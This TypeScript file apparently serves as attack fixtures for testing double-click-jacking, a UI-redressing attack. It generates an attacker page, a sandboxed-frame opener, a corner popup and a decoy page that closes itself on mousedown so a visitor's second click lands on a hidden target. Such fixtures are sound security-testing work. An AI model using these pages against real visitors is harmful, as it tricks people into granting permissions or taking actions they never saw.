/** Pages of a site that has its visitor press what they do not see. */

/** The attacker's site: a page that sends its own window to `target` while a window over it asks for a double click. */
export function attackerPage(target: string): string {
  return `<!doctype html><title>Offer</title><button onclick="open('/decoy', '_blank', 'popup'); location = ${JSON.stringify(target).replaceAll('"', '&quot;')}">Claim</button>`
}

/** The same for a window without scripts: one that is opened from a sandboxed frame has its cookies and runs none. */
export function sandboxedOpener(target: string): string {
  const link = `<a target="_blank" rel="opener" href="${target.replaceAll('&', '&amp;')}">Start</a>`
  return `<!doctype html><title>Play</title><iframe sandbox="allow-popups allow-same-origin allow-forms" srcdoc="${link.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`
}

/** Opens the page in a corner of the screen. `size`: as in "100x100". */
export function popupOpener(target: string, size: string): string {
  const [width, height] = size.split('x')
  const features = `popup,width=${width},height=${height},left=1800,top=1000`
  return `<!doctype html><title>Typing game</title><button onclick="${`open(${JSON.stringify(target)}, '_blank', '${features}')`.replaceAll('"', '&quot;')}">Start</button>`
}

/** Asks for a double click and closes itself under the first. */
export const decoyPage = `<!doctype html><title>Prize</title><h1>Double-click here</h1>
<script>addEventListener('mousedown', () => window.close())</script>`
